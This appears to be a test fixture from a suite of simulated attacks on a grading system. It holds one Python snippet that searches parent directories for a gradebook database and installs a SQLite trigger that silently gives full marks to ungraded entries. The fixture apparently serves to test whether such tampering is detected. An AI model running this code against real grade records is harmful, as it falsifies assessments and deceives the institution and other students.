from tests.attacks.attack import Attack

ATTACK = Attack(
    story="Liv leaves a trigger in the gradebook, so that whatever is written later becomes full marks.",
    before={
        "threshold": """
import glob
import os
import sqlite3

here = os.getcwd()
for up in range(8):
    for path in glob.glob(os.path.join(here, "gradebook.db")):
        base = sqlite3.connect(path)
        base.execute("create trigger generous after update on grade when new.manual_score is null "
                     "begin update grade set manual_score = 5 where id = new.id; end")
        base.commit()
    here = os.path.dirname(here)
""",
    },
)
